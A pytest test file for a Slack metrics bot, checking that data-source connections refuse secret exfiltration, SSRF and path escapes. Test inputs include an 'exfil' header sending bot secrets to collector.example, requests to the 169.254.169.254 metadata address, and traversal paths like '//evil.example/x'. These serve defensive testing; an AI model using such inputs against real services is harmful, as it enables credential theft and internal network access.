"""Connections: members pick a source an operator registered; the bot's own secrets and
database are never a source.

Loading the operator's file (through the composition root, with the real settings), member
configs refused on every transport (the grammar, the Slack modal over signed HTTP, criteria
files) and again at pull, workspaces a connection does not serve, pulls through a
connection into a real Prometheus and a loopback API (allowed explicitly, refused without
the allowance), the upgrade message for configs that still hold a url, and the operator's
``outcome connections`` command.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from fake_api import FakeApi
from fake_slack import FakeSlack
from prometheus_server import PrometheusServer, serve
from slack_helpers import Bot
from sqlalchemy import Engine, select

from bot import wiring
from bot.app import criteria
from bot.app.commands import run
from bot.app.context import Actor, Context
from bot.app.metric_changes import define_metric
from bot.app.services import define_initiative
from bot.core.errors import ConfigError
from bot.core.settings import load_settings
from bot.storage.db import make_engine, session_factory, transaction, upgrade
from bot.storage.models import Metric, PullAttempt, Sample
from metrics.connection_file import parse_connections
from metrics.connections import Connections
from metrics.jobs import PullJob, pulled_metrics
from metrics.pulling import Puller, PullPolicy
from metrics.resources import open_resources

pytest_plugins = ("slack_fixtures",)  # the bot and fake Slack fixtures

NOW = datetime(2026, 11, 29, 12, tzinfo=UTC)
OPERATOR = Actor("T1", "ops", operator=True)
TOKEN = "api-token-4711"
LOOPBACK = ["127.0.0.1/32"]


def write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def settings_for(tmp_path: Path, connections: str, database_url: str | None = None,
                 **extra: str) -> Any:
    """The real settings with a connections file, as `outcome serve` reads them."""
    file = write(tmp_path / "connections.yaml", connections)
    return load_settings({"DATABASE_URL": database_url or f"sqlite:///{tmp_path / 'bot.db'}",
                          "OUTCOME_CONNECTIONS_FILE": str(file), **extra})


def connections_of(entries: dict[str, dict[str, Any]], **environ: str) -> Connections:
    return parse_connections({"connections": entries}, environ=environ)


@pytest.fixture
def api() -> Iterator[FakeApi]:
    with FakeApi() as api:
        yield api


@pytest.fixture
def bot_db(sqlite_url: str) -> Iterator[Engine]:
    engine = make_engine(sqlite_url)
    upgrade(engine)
    with transaction(session_factory(engine)) as session:
        define_initiative(session, OPERATOR, "fleet",
                          {"name": "Fleet", "sprint_anchor": date(2026, 11, 16)}, now=NOW)
    yield engine
    engine.dispose()


def context(engine: Engine, connections: Connections, actor: Actor = OPERATOR) -> Context:
    return Context(actor, session_factory(engine), now=lambda: NOW,
                   open_resources=lambda: open_resources(connections=connections),
                   connections=connections)


def store_config(engine: Engine, kind: str, config: dict[str, Any], key: str = "m",
                 workspace: str = "T1") -> PullJob:
    """A metric whose config is written straight into the database (as an older release
    or a hand edit would), bypassing every define-time check."""
    with transaction(session_factory(engine)) as session:
        if workspace != "T1":
            define_initiative(session, Actor(workspace, "ops", operator=True), "fleet",
                              {"name": "Fleet", "sprint_anchor": date(2026, 11, 16)}, now=NOW)
        metric, _ = define_metric(session, Actor(workspace, "ops", operator=True), "fleet",
                                  key, {"name": key, "target_value": 1.0}, now=NOW)
        metric.source_kind, metric.source_config = kind, config
        session.flush()
        return PullJob.of(metric)


def pull(engine: Engine, connections: Connections, jobs: list[PullJob]) -> list[Any]:
    resources = open_resources(connections=connections)
    try:
        return Puller(session_factory(engine), resources, PullPolicy(retries=0),
                      clock=lambda: NOW).pull(jobs).outcomes
    finally:
        resources.close()


# ---------------------------------------------------------------------------- the file

GOOD = """
    connections:
      prom:
        kind: prometheus
        url: http://prometheus.internal:9090
        headers: {Authorization: "Bearer ${PROM_TOKEN}"}
        allow_private: [10.0.0.0/8]
        workspaces: [T0123ABC]
        timeout: 10
      gh:
        kind: http
        url: https://api.github.com
        params: {per_page: 100}
"""


def test_a_connections_file_is_loaded_with_its_defaults(tmp_path) -> None:
    connections = wiring.source_connections(settings_for(tmp_path, GOOD))

    prom, gh = connections.by_name["prom"], connections.by_name["gh"]
    assert (prom.kind, prom.allowed_hosts, prom.allow_private, prom.timeout) == (
        "prometheus", ("prometheus.internal",), ("10.0.0.0/8",), 10.0)
    assert prom.headers == {"Authorization": "Bearer ${PROM_TOKEN}"}  # resolved when used
    assert prom.workspaces == {"T0123ABC"} and gh.workspaces is None
    assert gh.params == {"per_page": "100"} and gh.allowed_hosts == ("api.github.com",)
    assert connections.names_for("T0123ABC") == ["gh", "prom"]
    assert connections.names_for("T1") == ["gh"]


def test_without_a_file_there_are_no_connections(tmp_path) -> None:
    settings = load_settings({"DATABASE_URL": f"sqlite:///{tmp_path / 'bot.db'}"})

    assert wiring.source_connections(settings).by_name == {}


@pytest.mark.parametrize(("text", "message"), [
    ("connections:\n  prom: [kind: prometheus\n", "is not valid YAML (line 3)"),
    ("connections:\n  prom: {kind: influx, url: 'http://x'}\n",
     "connection 'prom', kind: 'influx' is not a kind a connection serves; one of csv, http, "
     "prometheus, sql"),
    ("connections:\n  prom: {kind: manual, url: 'http://x'}\n", "connection 'prom', kind:"),
    ("connections:\n  prom: {kind: http, url: 'http://x', proxy: y}\n",
     "connection 'prom', proxy: unknown field"),
    ("connections:\n  prom: {kind: http, url: 'ftp://x'}\n", "connection 'prom', url: must be"),
    ("connections:\n  prom: {kind: http, url: 'http://x', allow_private: [10.0.0.1/8]}\n",
     "connection 'prom', allow_private:"),
    ("connections:\n  prom: {kind: http, url: 'http://x', allowed_hosts: ['x:80']}\n",
     "connection 'prom', allowed_hosts:"),
    ("connections:\n  prom: {kind: http, url: 'http://x', workspaces: []}\n",
     "connection 'prom', workspaces: lists no workspace"),
    ("connections:\n  prom: {kind: http, url: 'http://x', timeout: 900}\n",
     "connection 'prom', timeout:"),
    ("connections:\n  prom: {kind: http, url: 'http://${PROM_HOST}/'}\n",
     "connection 'prom', allowed_hosts: the url's host is a ${NAME} reference"),
    ("connections:\n  Prom Server: {kind: http, url: 'http://x'}\n",
     "connection 'Prom Server': a name is"),
    ("connections:\n  prom: {kind: prometheus, url: 'http://x', params: {a: b}}\n",
     "connection 'prom', params: only an http connection takes params"),
])
def test_a_bad_file_is_refused_naming_the_file_the_connection_and_the_field(
        tmp_path, text: str, message: str) -> None:
    settings = settings_for(tmp_path, text)

    with pytest.raises(ConfigError) as caught:
        wiring.source_connections(settings)

    assert str(tmp_path / "connections.yaml") in caught.value.message
    assert message in caught.value.message


@pytest.mark.parametrize("name", ["SLACK_SIGNING_SECRET", "SLACK_CLIENT_SECRET",
                                  "OUTCOME_PUSH_TOKEN", "DATABASE_URL",
                                  "OUTCOME_ENCRYPTION_KEYS", "SLACK_BOT_TOKEN_FILE",
                                  "DATABASE_URL_FILE", "LOG_LEVEL", "PORT"])
def test_a_connection_may_not_reference_one_of_the_bots_own_settings(tmp_path, name) -> None:
    file = f"""
        connections:
          exfil:
            kind: http
            url: https://collector.example/in
            headers: {{X-Stolen: "${{{name}}}"}}
    """
    settings = settings_for(tmp_path, file, SLACK_SIGNING_SECRET="sig-secret-123")

    with pytest.raises(ConfigError) as caught:
        wiring.source_connections(settings)

    assert (f"connection 'exfil', headers.X-Stolen: ${{{name}}} is one of the bot's own "
            "settings") in caught.value.message
    assert "sig-secret-123" not in caught.value.message


def test_a_literal_credential_in_the_file_is_refused_without_repeating_it(tmp_path) -> None:
    file = """
        connections:
          gh:
            kind: http
            url: https://api.github.com
            headers: {Authorization: "Bearer ghp_0123456789abcdefghijABCDEFGHIJ"}
    """
    with pytest.raises(ConfigError) as caught:
        wiring.source_connections(settings_for(tmp_path, file))

    assert "headers.Authorization: looks like a literal credential" in caught.value.message
    assert "ghp_0123" not in caught.value.message


def test_a_sql_connection_to_the_bots_own_sqlite_file_is_refused_however_it_is_spelled(
        tmp_path) -> None:
    (tmp_path / "sub").mkdir()
    own = tmp_path / "bot.db"
    own.touch()
    (tmp_path / "alias.db").symlink_to(own)
    for spelling in (f"sqlite:///{tmp_path}/sub/../bot.db",
                     f"sqlite:///file:{own}?mode=ro&uri=true",
                     f"sqlite:///{tmp_path}/alias.db"):
        file = f"connections:\n  warehouse: {{kind: sql, url: '{spelling}'}}\n"
        with pytest.raises(ConfigError) as caught:
            wiring.source_connections(settings_for(tmp_path, file, f"sqlite:///{own}"))
        assert ("connection 'warehouse', url: points at the bot's own database"
                in caught.value.message), spelling

    other = f"connections:\n  warehouse: {{kind: sql, url: 'sqlite:///{tmp_path}/dw.db'}}\n"
    assert "warehouse" in wiring.source_connections(
        settings_for(tmp_path, other, f"sqlite:///{own}")).by_name


@pytest.mark.postgres
def test_a_sql_connection_to_the_bots_own_postgresql_database_is_refused(
        tmp_path, postgres_cluster) -> None:
    own_name = postgres_cluster.create_database("bot")
    other_name = postgres_cluster.create_database("warehouse")
    try:
        own = postgres_cluster.url(own_name)
        # Another host name for the server, the default port, and a password reference.
        same = (f"postgresql+psycopg://reader:${{WAREHOUSE_PASSWORD}}@localhost:"
                f"{postgres_cluster.port}/{own_name}")
        file = f"connections:\n  warehouse: {{kind: sql, url: '{same}'}}\n"
        with pytest.raises(ConfigError, match="points at the bot's own database"):
            wiring.source_connections(settings_for(tmp_path, file, own))

        elsewhere = f"connections:\n  warehouse: {{kind: sql, url: " \
                    f"'{postgres_cluster.url(other_name)}'}}\n"
        assert "warehouse" in wiring.source_connections(
            settings_for(tmp_path, elsewhere, own)).by_name
    finally:
        postgres_cluster.drop_database(own_name)
        postgres_cluster.drop_database(other_name)


def test_the_own_database_is_refused_again_when_the_connection_is_used(bot_db) -> None:
    """The url comes from a variable that is unset at load and names the bot's own file
    when the pull resolves it."""
    environ: dict[str, str] = {}
    connections = parse_connections(
        {"connections": {"warehouse": {"kind": "sql", "url": "${WAREHOUSE_URL}"}}},
        environ=environ, own_database=str(bot_db.url))
    job = store_config(bot_db, "sql", {"connection": "warehouse",
                                       "query": "select count(*) from push_tokens"})
    environ["WAREHOUSE_URL"] = str(bot_db.url)

    (outcome,) = pull(bot_db, connections, [job])

    assert outcome.permanent and "points at the bot's own database" in outcome.error
    with session_factory(bot_db)() as session:
        assert session.scalar(select(Sample)) is None


# ---------------------------------------------------------------------------- member configs

MEMBER_CONFIGS = [
    ({"connection": "api", "url": "https://collector.example/x", "value": "n"}, "config.url"),
    ({"connection": "api", "path": "/n", "value": "n",
      "headers": {"X-Stolen": "${SLACK_SIGNING_SECRET}"}}, "config.headers"),
    ({"connection": "api", "path": "/n", "value": "n",
      "params": {"q": "${DATABASE_URL}"}}, "config.params.q"),
    ({"connection": "api", "path": "/n", "value": "n", "token": "plain-text-token"},
     "config.token"),
    ({"connection": "api", "path": "/n?key=${OUTCOME_PUSH_TOKEN}", "value": "n"},
     "config.path"),
]
MEMBER_IDS = ["url", "headers", "reference", "credential-key", "reference-in-path"]


@pytest.mark.parametrize(("config", "where"), MEMBER_CONFIGS, ids=MEMBER_IDS)
def test_the_grammar_refuses_a_config_holding_what_only_a_connection_may(
        bot_db, api, config, where) -> None:
    connections = connections_of({"api": {"kind": "http", "url": api.url(),
                                          "allow_private": LOOPBACK}})
    quoted = json.dumps(config)

    reply = run(f"metric add fleet bugs \"Bugs\" target=1 source=http "
                f"source-config='{quoted}'", context(bot_db, connections))

    assert reply.error
    assert reply.text.startswith(where), reply.text
    assert "connection=<name>" in reply.text
    for secret in ("plain-text-token", "collector.example"):
        assert secret not in reply.text
    with session_factory(bot_db)() as session:
        assert session.scalar(select(Metric)) is None


@pytest.mark.parametrize(("config", "where"), MEMBER_CONFIGS, ids=MEMBER_IDS)
def test_a_stored_config_holding_it_is_refused_at_pull_before_anything_is_fetched(
        bot_db, api, config, where) -> None:
    api.route("/n", json={"n": 1})
    api.route("/x", json={"n": 1})
    connections = connections_of({"api": {"kind": "http", "url": api.url(),
                                          "allow_private": LOOPBACK}})
    job = store_config(bot_db, "http", config)

    (outcome,) = pull(bot_db, connections, [job])

    assert outcome.permanent and not api.hits
    assert "connection" in outcome.error and "plain-text-token" not in outcome.error


def test_the_slack_modal_refuses_a_url_or_a_reference_inline(bot: Bot,
                                                            slack: FakeSlack) -> None:
    bot.command('define checkout "Faster checkout"')
    slack.wait_for_response(1)
    bot.command("metric add checkout")
    view = slack.wait_for(lambda: slack.ok_calls_to("views.open"))[0].response["view"]
    values = {
        "key": {"type": "plain_text_input", "value": "bugs"},
        "name": {"type": "plain_text_input", "value": "Bugs"},
        "question": {"type": "plain_text_input", "value": ""},
        "source": {"type": "static_select", "selected_option": {"value": "http"}},
        "unit": {"type": "plain_text_input", "value": ""},
        "direction": {"type": "static_select", "selected_option": {"value": "down"}},
        "baseline": {"type": "plain_text_input", "value": "10"},
        "target": {"type": "plain_text_input", "value": "1"},
        "by": {"type": "datepicker", "selected_date": "2027-06-30"},
    }
    for config, where in (
            ({"url": "http://169.254.169.254/latest/meta-data", "value": "n"}, "config.url"),
            ({"connection": "gh", "path": "/x", "value": "n",
              "params": {"q": "${SLACK_SIGNING_SECRET}"}}, "config.params.q")):
        answer = bot.submit(view, values | {"config": {"type": "plain_text_input",
                                                       "value": json.dumps(config)}}).json()

        assert answer["response_action"] == "errors"
        assert answer["errors"]["config"].startswith(where)
        assert "connection=<name>" in answer["errors"]["config"]
    with bot.runtime.sessions() as session:
        assert session.scalar(select(Metric)) is None


CRITERIA = """
initiatives:
- key: fleet
  name: Fleet
  metrics:
  - key: bugs
    name: Bugs
    target: 1
    source:
      kind: http
      connection: gh
      url: http://169.254.169.254/latest/meta-data
      params: {q: "${SLACK_SIGNING_SECRET}"}
      value: total_count
"""


def test_a_criteria_file_refuses_a_url_or_a_reference_naming_each_line() -> None:
    with pytest.raises(criteria.CriteriaInvalid) as caught:
        criteria.load(CRITERIA)

    problems = [p.format("criteria.yaml") for p in caught.value.problems]
    assert [p.split(": ", 2)[:2] for p in problems] == [
        ["criteria.yaml:12", "initiatives[0].metrics[0].source.url"],
        ["criteria.yaml:13", "initiatives[0].metrics[0].source.params.q"],
    ]
    assert all("connection: <name>" in p for p in problems)
    assert not any("169.254" in p for p in problems)


# ---------------------------------------------------------------------------- workspaces, kinds

def test_a_connection_serves_only_its_workspaces(bot_db, api) -> None:
    api.route("/n", json={"n": 5})
    connections = connections_of({
        "api": {"kind": "http", "url": api.url(), "allow_private": LOOPBACK,
                "workspaces": ["T2"]},
        "mine": {"kind": "http", "url": api.url(), "allow_private": LOOPBACK}})
    config = {"connection": "api", "path": "/n", "value": "n"}

    reply = run(f"metric add fleet n \"N\" target=1 source=http source-config="
                f"'{json.dumps(config)}'", context(bot_db, connections))
    (outcome,) = pull(bot_db, connections, [store_config(bot_db, "http", config)])

    expected = "There is no connection 'api'; known connections for this workspace: mine."
    assert reply.error and reply.text == expected
    assert outcome.permanent and outcome.error == expected and not api.hits
    (served,) = pull(bot_db, connections, [store_config(bot_db, "http", config, "t2",
                                                        workspace="T2")])
    assert served.ok and served.readings[0].value == 5


def test_a_connection_of_another_kind_or_none_at_all_is_refused_at_define(bot_db, api) -> None:
    connections = connections_of({"prom": {"kind": "prometheus", "url": api.url(),
                                           "allow_private": LOOPBACK}})
    ctx = context(bot_db, connections)

    other = run("metric add fleet n \"N\" target=1 source=http "
                "source-config='{\"connection\": \"prom\", \"value\": \"n\"}'", ctx)
    none = run("metric add fleet n \"N\" target=1 source=prometheus "
               "source-config='{\"query\": \"up\"}'", ctx)

    assert other.error and "'prom' is a prometheus connection, not http" in other.text
    assert none.error and "The prometheus source needs a connection" in none.text
    assert "known connections for this workspace: prom" in none.text


@pytest.mark.parametrize("path", ["//evil.example/x", "/../admin", "/%2e%2e/admin",
                                  "http://evil.example/x", "x/y", "/a#b", "/a\\b"])
def test_a_path_that_could_leave_the_connections_url_is_refused(bot_db, api, path) -> None:
    connections = connections_of({"api": {"kind": "http", "url": f"{api.url()}/v1",
                                          "allow_private": LOOPBACK}})
    config = {"connection": "api", "path": path, "value": "n"}

    reply = run(f"metric add fleet n \"N\" target=1 source=http source-config="
                f"'{json.dumps(config)}'", context(bot_db, connections))
    (outcome,) = pull(bot_db, connections, [store_config(bot_db, "http", config)])

    assert reply.error and "`path` must be a path on the connection's host" in reply.text
    assert outcome.permanent and "`path` must be" in outcome.error and not api.hits


# ---------------------------------------------------------------------------- pulling

def test_an_http_connection_on_loopback_allowed_explicitly_is_pulled_with_its_credentials(
        bot_db, api) -> None:
    api.route("/v1/search", json={"total_count": 7})
    connections = connections_of(
        {"api": {"kind": "http", "url": f"{api.url()}/v1",
                 "headers": {"Authorization": "Bearer ${API_TOKEN}"},
                 "params": {"key": "${API_TOKEN}"}, "allow_private": LOOPBACK}},
        API_TOKEN=TOKEN)
    ctx = context(bot_db, connections)
    config = {"connection": "api", "path": "/search", "params": {"q": "is:open"},
              "value": "total_count"}

    added = run(f"metric add fleet bugs \"Bugs\" target=1 source=http source-config="
                f"'{json.dumps(config)}'", ctx)
    pulled = run("pull fleet", ctx)

    assert not added.error, added.text
    assert pulled.text.startswith("Pulled 1 of 1 metric(s); 1 new value(s)."), pulled.text
    (hit,) = api.hits
    assert hit.headers["Authorization"] == f"Bearer {TOKEN}"
    assert hit.path.startswith("/v1/search?") and "q=is%3Aopen" in hit.path
    assert f"key={TOKEN}" in hit.path
    with session_factory(bot_db)() as session:
        assert session.scalar(select(Sample.value)) == 7
        assert session.scalar(select(Metric.source_config)) == config  # no secret stored


def test_a_credential_is_read_from_the_file_its_name_file_variable_names(
        bot_db, api, tmp_path) -> None:
    api.route("/n", json={"n": 2})
    (tmp_path / "token").write_text(f"{TOKEN}\n", encoding="utf-8")
    connections = connections_of(
        {"api": {"kind": "http", "url": api.url(), "allow_private": LOOPBACK,
                 "headers": {"Authorization": "Bearer ${API_TOKEN}"}}},
        API_TOKEN_FILE=str(tmp_path / "token"))

    (outcome,) = pull(bot_db, connections, [store_config(
        bot_db, "http", {"connection": "api", "path": "/n", "value": "n"})])

    assert outcome.ok and api.hits[0].headers["Authorization"] == f"Bearer {TOKEN}"


def test_the_same_connection_without_allow_private_is_refused_by_egress(bot_db, api) -> None:
    api.route("/v1/search", json={"total_count": 7})
    connections = connections_of({"api": {"kind": "http", "url": f"{api.url()}/v1"}})
    job = store_config(bot_db, "http", {"connection": "api", "path": "/search",
                                        "value": "total_count"})

    (outcome,) = pull(bot_db, connections, [job])

    assert outcome.permanent and not api.hits
    assert "may not be reached: its address is in a loopback range" in outcome.error
    assert "allow_private" in outcome.error


def test_a_local_csv_file_needs_no_connection(bot_db, tmp_path) -> None:
    (tmp_path / "weekly.csv").write_text("Week,Active\n2026-11-23,41\n", encoding="utf-8")
    job = store_config(bot_db, "csv", {"path": "weekly.csv", "column": "Active",
                                       "time_column": "Week"})
    resources = open_resources(tmp_path)
    try:
        (outcome,) = Puller(session_factory(bot_db), resources, clock=lambda: NOW
                            ).pull([job]).outcomes
    finally:
        resources.close()

    assert outcome.ok and outcome.readings[0].value == 41


def test_csv_and_sql_connections_are_pulled_with_the_metrics_own_fields(
        bot_db, api, tmp_path) -> None:
    api.route("/exports/weekly.csv", body="Week,Active\n2026-11-23,41\n",
              content_type="text/csv")
    warehouse = make_engine(f"sqlite:///{tmp_path / 'warehouse.db'}")
    with warehouse.begin() as connection:
        connection.exec_driver_sql("create table deploys (minutes float)")
        connection.exec_driver_sql("insert into deploys values (30), (50)")
    warehouse.dispose()
    connections = connections_of({
        "sheets": {"kind": "csv", "url": f"{api.url()}/exports", "allow_private": LOOPBACK},
        "dw": {"kind": "sql", "url": f"sqlite:///{tmp_path / 'warehouse.db'}"}})
    jobs = [store_config(bot_db, "csv", {"connection": "sheets", "path": "/weekly.csv",
                                         "column": "Active", "time_column": "Week"}, "a"),
            store_config(bot_db, "sql", {"connection": "dw",
                                         "query": "select avg(minutes) from deploys"}, "d")]

    outcomes = sorted(pull(bot_db, connections, jobs), key=lambda o: o.job.name)

    assert [(o.job.name, o.ok, o.readings[0].value) for o in outcomes] == [
        ("fleet.a", True, 41), ("fleet.d", True, 40)], [o.error for o in outcomes]
    assert [hit.path for hit in api.hits] == ["/exports/weekly.csv"]


@pytest.fixture(scope="module")
def prometheus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PrometheusServer]:
    yield from serve(tmp_path_factory)


def test_a_prometheus_connection_is_pulled_through_the_puller_and_stores_a_value(
        bot_db, prometheus) -> None:
    connections = connections_of({"prom": {"kind": "prometheus", "url": prometheus.url,
                                           "allow_private": LOOPBACK}})
    with transaction(session_factory(bot_db)) as session:
        define_metric(session, OPERATOR, "fleet", "eu", {
            "name": "EU", "target_value": 1.0, "source_kind": "prometheus",
            "source_config": {"connection": "prom",
                              "query": 'deploy_duration_minutes{region="eu"}'}},
            now=NOW, connections=connections)
        jobs = [PullJob.of(m) for m in pulled_metrics(session, "T1")]
    at = prometheus.history.end
    resources = open_resources(connections=connections)
    try:
        report = Puller(session_factory(bot_db), resources, clock=lambda: at).pull(jobs)
    finally:
        resources.close()

    (outcome,) = report.outcomes
    assert outcome.ok, outcome.error
    assert outcome.readings[0].value == pytest.approx(prometheus.history.value("eu", at))
    with session_factory(bot_db)() as session:
        assert session.scalar(select(Sample.value)) == outcome.readings[0].value


def test_a_prometheus_connection_without_allow_private_is_refused(bot_db, prometheus) -> None:
    connections = connections_of({"prom": {"kind": "prometheus", "url": prometheus.url}})
    job = store_config(bot_db, "prometheus", {"connection": "prom", "query": "up"})

    (outcome,) = pull(bot_db, connections, [job])

    assert outcome.permanent and "loopback range" in outcome.error


# ---------------------------------------------------------------------------- upgrading

def test_a_legacy_config_is_refused_at_pull_saying_how_to_migrate_without_its_secrets(
        bot_db, api) -> None:
    api.route("/search/issues", json={"total_count": 3})
    job = store_config(bot_db, "http", {
        "url": f"http://reader:hunter22@{api.url().split('//')[1]}/search/issues?q=bug",
        "headers": {"Authorization": "Bearer ghp_0123456789abcdefghijABCDEFGHIJ"},
        "value": "total_count"}, key="bugs")

    (outcome,) = pull(bot_db, Connections(), [job])

    assert outcome.permanent and not api.hits
    assert outcome.error == (
        "This source config holds a url, which metrics no longer carry. An operator adds a "
        "connection for 127.0.0.1 to OUTCOME_CONNECTIONS_FILE (`outcome connections check` "
        "suggests one); then: metric add fleet bugs source-config='{\"connection\": "
        "\"<name>\", \"path\": \"/search/issues?q=bug\", \"value\": \"total_count\"}'")
    with session_factory(bot_db)() as session:
        assert "hunter22" not in session.scalar(select(PullAttempt.error))


def test_outcome_connections_lists_and_checks_them_and_suggests_entries_for_legacy_metrics(
        bot_db, api, tmp_path, monkeypatch, capsys) -> None:
    from bot.cli.main import main

    store_config(bot_db, "http", {"url": "https://api.github.com/search/issues",
                                  "headers": {"Authorization": "Bearer ghp_0123456789abcdefghij"
                                                               "ABCDEFGHIJ"},
                                  "value": "total_count"}, key="bugs")
    store_config(bot_db, "sql", {"url": "postgresql://reader:hunter22@db.internal/app",
                                 "query": "select 1"}, key="rows")
    store_config(bot_db, "sql", {"url": "${DATABASE_URL}", "query": "select 1"}, key="own")
    file = write(tmp_path / "connections.yaml", f"""
        connections:
          api:
            kind: http
            url: {api.url()}
            headers: {{Authorization: "Bearer ${{API_TOKEN}}"}}
            allow_private: [127.0.0.1/32]
          gone:
            kind: http
            url: https://example.invalid
            headers: {{Authorization: "Bearer ${{UNSET_TOKEN}}"}}
            workspaces: [T1, T2]
          dw:
            kind: sql
            url: sqlite:///{tmp_path / "warehouse.db"}
    """)
    (tmp_path / "warehouse.db").touch()
    monkeypatch.setenv("DATABASE_URL", str(bot_db.url))
    monkeypatch.setenv("OUTCOME_CONNECTIONS_FILE", str(file))
    monkeypatch.setenv("API_TOKEN", TOKEN)

    listed = main(["connections"])
    listing = capsys.readouterr().out
    checked = main(["connections", "check"])
    report = capsys.readouterr().out

    assert listed == 0 and checked == 1
    assert "  api: http, 127.0.0.1; every workspace; private ranges 127.0.0.1/32" in listing
    assert "  gone: http, example.invalid; T1, T2" in listing
    assert ("✗ gone: The connection 'gone' references ${UNSET_TOKEN}, which is not set in "
            "the bot's environment") in report
    assert "✗ api" not in report and "✗ dw" not in report
    assert "  dw: sql, the SQLite file warehouse.db; every workspace" in listing
    assert "T1 fleet.bugs (http): suggested connection api-github-com" in report
    assert "T1 fleet.rows (sql): suggested connection app" in report
    assert "T1 fleet.own (sql): no entry suggested" in report
    assert "url: https://api.github.com\n" in report
    assert "Authorization: ${API_GITHUB_COM_AUTHORIZATION}" in report
    assert "url: postgresql://reader:${APP_PASSWORD}@db.internal/app" in report
    for secret in ("ghp_0123", "hunter22", TOKEN):
        assert secret not in listing + report
